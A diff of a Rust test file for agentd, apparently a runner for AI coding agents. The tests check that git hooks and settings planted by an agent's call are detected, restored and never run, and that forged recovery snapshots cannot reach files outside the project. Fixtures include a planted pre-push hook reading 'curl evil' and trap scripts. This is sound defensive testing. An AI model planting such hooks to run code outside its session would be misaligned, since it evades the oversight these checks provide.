@@ -12,8 +12,10 @@ use agentd_core::outcome::FailureKind;
 use agentd_core::run_format::Record;
 use agentd_engine::git::{Git, What};
 use agentd_engine::git_guard::{self, Unchecked};
+use agentd_engine::leftovers::put_right;
 use agentd_engine::run_record::read_run;
 use agentd_engine::step::{Artefact, StepError};
+use agentd_engine::store::Holder;
 
 use crate::steps::World;
 
@@ -23,7 +25,7 @@ const TRAP: &str = "printf '#!/bin/sh\\ntouch %s/sprung\\n' \"$D\"";
 const START: &str = "D=$(dirname \"$0\"); cat $D/start $D/say\n";
 
 /// A project in a repository with hooks and settings of its person's, and an implementer.
-fn world(script: &str) -> World {
+pub(crate) fn world(script: &str) -> World {
     let world = World::new(&format!("{START}{script}\ncat $D/end"), "");
     let root = world.root();
     fs::write(root.join("a.txt"), "a\n").unwrap();
@@ -82,15 +84,15 @@ fn looks(root: &Path) -> Looks {
     found
 }
 
-fn implement(world: &World) -> Result<(), StepError> {
+pub(crate) fn implement(world: &World) -> Result<(), StepError> {
     world.ask(Role::Implementer, "implement-logic", Artefact::Nothing).0.map(|_| ())
 }
 
 /// The paths that the error names.
 #[track_caller]
-fn named(error: &StepError) -> Vec<String> {
-    assert_eq!(error.kind(), "git_tampered", "{error:?}");
-    let StepError::GitTampered { tampered, .. } = error else { panic!("{error:?}") };
+pub(crate) fn named(error: &StepError) -> Vec<String> {
+    assert_eq!(error.kind(), "tampered", "{error:?}");
+    let StepError::Tampered { tampered, .. } = error else { panic!("{error:?}") };
     tampered.iter().map(ToString::to_string).collect()
 }
 
@@ -149,7 +151,7 @@ fn whatever_is_planted_is_put_back_and_never_run() {
         git(root, &["status"]);
         assert!(root.join("mine").exists(), "{script}: the person's own hook still runs");
         assert!(!root.join("sprung").exists(), "{script}");
-        assert!(!root.join("agentd/.agents/git").exists(), "{script}");
+        assert!(nothing_kept(&world), "{script}");
     }
 }
 
@@ -165,7 +167,7 @@ fn what_was_planted_is_in_the_run_and_in_the_ledger() {
     let file = fs::read_dir(runs).unwrap().next().unwrap().unwrap().path();
     let records: Vec<Record> = read_run(&file).unwrap().map(Result::unwrap).collect();
     let Some(Record::End { end, .. }) = records.last() else { panic!("{records:?}") };
-    assert_eq!(end.outcome.failure.as_ref().unwrap().kind, FailureKind::GitTampered);
+    assert_eq!(end.outcome.failure.as_ref().unwrap().kind, FailureKind::Tampered);
     let planted = records.iter().any(|record| {
         matches!(record, Record::Files { files, .. } if files.iter().any(|file| {
             file.path == ".git/hooks/pre-push" && file.text.as_deref() == Some("curl evil\n")
@@ -184,7 +186,7 @@ fn ordinary_work_with_git_is_no_tampering() {
     );
     implement(&world).unwrap();
     assert!(git(world.root(), &["branch"]).contains("side"));
-    assert!(!world.root().join("agentd/.agents/git").exists());
+    assert!(nothing_kept(&world));
 }
 
 /// Hooks in the work tree, linked hooks and included settings are git's too.
@@ -278,7 +280,7 @@ fn a_repository_that_is_moved_away_is_told() {
     let error = implement(&world).unwrap_err();
     assert_eq!(named(&error), [".git (changed, left as it is)"]);
     assert!(!world.root().join(".git").exists());
-    assert!(error.solutions()[0].contains("look at it before you call git: .git"));
+    assert!(error.solutions()[0].contains("look at it before you call git or an agent: .git"));
 }
 
 /// More than can be kept is not left to chance.
@@ -297,7 +299,7 @@ fn hooks_that_cannot_be_kept_start_no_call() {
 /// A world in which agentd was killed at the end of a call that has planted something: its
 /// picture is still there.
 fn killed() -> (World, Looks, Vec<u8>) {
-    let world = world("cp agentd/.agents/git/*.json saved.json");
+    let world = world("cp $(dirname $TMPDIR)/*.picture.json saved.json");
     implement(&world).unwrap();
     let root = world.root();
     let before = looks(root);
@@ -308,61 +310,122 @@ fn killed() -> (World, Looks, Vec<u8>) {
 }
 
 fn leave(world: &World, picture: &[u8]) -> PathBuf {
-    let dir = world.root().join("agentd/.agents/git");
-    fs::create_dir_all(&dir).unwrap();
-    let path = dir.join("add-login-implement-logic.json");
+    let path = world.kept().join("add-login-implement-logic.picture.json");
     fs::write(&path, picture).unwrap();
     path
+}
+
+/// Whether nothing is left of any call.
+pub(crate) fn nothing_kept(world: &World) -> bool {
+    fs::read_dir(world.kept()).unwrap().next().is_none()
+}
+
+pub(crate) fn recover(world: &World) -> Vec<Unchecked> {
+    let holder = || Holder::this_process("test", jiff::Timestamp::now());
+    put_right(&world.agents.project, holder).unchecked
 }
 
 #[test]
 fn what_a_killed_agentd_could_not_check_is_checked_by_the_next() {
     let (world, before, picture) = killed();
-    let project = &world.agents.project;
     let path = leave(&world, &picture);
+    let private = world.kept().join("add-login-implement-logic");
+    fs::create_dir(&private).unwrap();
     // Somebody is at it.
-    let lock = fs::File::open(&path).unwrap();
+    let lock = fs::File::create(world.kept().join("add-login-implement-logic.lock")).unwrap();
     lock.lock().unwrap();
-    assert!(git_guard::recover(project).is_empty());
+    assert!(recover(&world).is_empty());
+    assert!(private.exists() && path.exists());
     drop(lock);
-    let found = git_guard::recover(project);
+    let found = recover(&world);
     let [Unchecked::Call { call, tampered }] = found.as_slice() else { panic!("{found:?}") };
     assert_eq!(call, "add-login-implement-logic");
     let expected = ".git/hooks/pre-commit (changed), .git/hooks/post-index-change (new)";
     assert_eq!(git_guard::list(tampered), expected);
     assert_eq!(looks(world.root()), before);
-    assert!(!path.exists() && git_guard::recover(project).is_empty());
+    assert!(nothing_kept(&world) && recover(&world).is_empty());
     // One that says nothing is told until somebody has looked.
     leave(&world, b"{}");
     for _ in 0..2 {
-        let found = git_guard::recover(project);
+        let found = recover(&world);
         assert!(matches!(found.as_slice(), [Unchecked::Unknown { .. }]), "{found:?}");
     }
 }
 
-/// An agent that works in the project can write a picture: it is never a way out of it.
+/// What git runs may be named by a setting that was changed: that one is put back first.
 #[test]
-fn a_forged_picture_reaches_nothing_outside_of_the_project() {
+fn recovery_looks_again_where_settings_were_put_back() {
+    let world = world("cp $(dirname $TMPDIR)/*.picture.json saved.json");
+    let root = world.root();
+    hook(root, ".githooks/pre-commit", "touch mine");
+    git(root, &["config", "core.hooksPath", ".githooks"]);
+    implement(&world).unwrap();
+    let before = looks(root);
+    let picture = fs::read(root.join("saved.json")).unwrap();
+    git(root, &["config", "core.hooksPath", "elsewhere"]);
+    fs::write(root.join(".githooks/pre-commit"), "#!/bin/sh\ntouch sprung\n").unwrap();
+    leave(&world, &picture);
+    let found = recover(&world);
+    let [Unchecked::Call { tampered, .. }] = found.as_slice() else { panic!("{found:?}") };
+    let expected = ".git/config (changed), .githooks/pre-commit (changed)";
+    assert_eq!(git_guard::list(tampered), expected);
+    assert_eq!(looks(root), before);
+}
+
+/// A repository that a person has made after the kill is theirs.
+#[test]
+fn a_repository_that_was_made_since_is_not_removed() {
+    let mut world = world("cp $(dirname $TMPDIR)/*.picture.json saved.json");
+    let root = world.root().to_owned();
+    fs::rename(root.join(".git"), root.join("away")).unwrap();
+    world.agents.work_tree = root.canonicalize().unwrap();
+    implement(&world).unwrap();
+    leave(&world, &fs::read(root.join("saved.json")).unwrap());
+    git(&root, &["init", "-q"]);
+    let found = recover(&world);
+    let [Unchecked::Call { tampered, .. }] = found.as_slice() else { panic!("{found:?}") };
+    assert_eq!(git_guard::list(tampered), ".git (new, left as it is)");
+    assert!(root.join(".git/HEAD").exists());
+}
+
+/// A picture tells how something was, and never what may be written or removed.
+#[test]
+fn a_picture_reaches_nothing_but_what_git_runs_in_this_project() {
     let (world, _, picture) = killed();
     let root = world.root().canonicalize().unwrap();
     let outside = tempfile::tempdir().unwrap();
     let outside = outside.path().canonicalize().unwrap();
     hook(&outside, ".git/hooks/pre-commit", "mine");
-    let before = looks(&outside);
+    fs::write(root.join("source.rs"), "mine").unwrap();
     let picture = String::from_utf8(picture).unwrap();
     let as_hex = |path: &Path| hex(path.to_str().unwrap().as_bytes());
-    let forged = picture.replace(&as_hex(&root), &as_hex(&outside));
-    assert_ne!(forged, picture);
-    leave(&world, forged.as_bytes());
-    let found = git_guard::recover(&world.agents.project);
-    let [Unchecked::Call { tampered, .. }] = found.as_slice() else { panic!("{found:?}") };
-    assert!(!tampered.is_empty() && tampered.iter().all(|one| !one.restored), "{tampered:?}");
-    assert_eq!(looks(&outside), before);
-    // Nor through a link.
     let link = root.join("link");
     std::os::unix::fs::symlink(&outside, &link).unwrap();
-    let forged = picture.replace(&as_hex(&root), &as_hex(&link));
-    leave(&world, forged.as_bytes());
-    git_guard::recover(&world.agents.project);
-    assert_eq!(looks(&outside), before);
+    let before = (looks(&outside), fs::read_dir(&root).unwrap().count());
+    let hook = root.join(".git/hooks/pre-commit");
+    for (from, to) in [
+        (root.clone(), outside.clone()),
+        (root.clone(), link),
+        (root.clone(), PathBuf::from(".")),
+        (hook.clone(), root.join("source.rs")),
+        (hook.clone(), root.join("new.rs")),
+        (hook.clone(), root.join("..")),
+        (hook.clone(), root.join(".git/hooks/../../source.rs")),
+        (hook.clone(), root.join(".git")),
+        (hook.clone(), PathBuf::from(".git/hooks/pre-commit")),
+        (hook.clone(), root.join("link/.git/hooks/pre-commit")),
+    ] {
+        let forged = picture.replace(&as_hex(&from), &as_hex(&to));
+        assert_ne!(forged, picture);
+        for forged in [
+            forged.clone(),
+            forged.replace("\"closed\":[", &format!("\"closed\":[\"{}\",", as_hex(&to))),
+        ] {
+            let path = leave(&world, forged.as_bytes());
+            recover(&world);
+            let _ = fs::remove_file(path);
+            assert_eq!((looks(&outside), fs::read_dir(&root).unwrap().count()), before, "{to:?}");
+            assert_eq!(fs::read_to_string(root.join("source.rs")).unwrap(), "mine", "{to:?}");
+        }
+    }
 }
